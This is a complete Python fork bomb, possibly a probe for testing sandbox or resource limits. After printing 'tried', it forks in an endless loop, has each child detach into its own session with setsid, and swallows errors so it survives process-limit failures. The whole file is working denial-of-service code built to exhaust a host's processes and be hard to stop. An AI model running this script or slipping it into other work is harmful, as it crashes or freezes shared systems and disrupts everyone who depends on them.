# Forks for ever, in sessions of their own.
import os

print("tried", flush=True)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
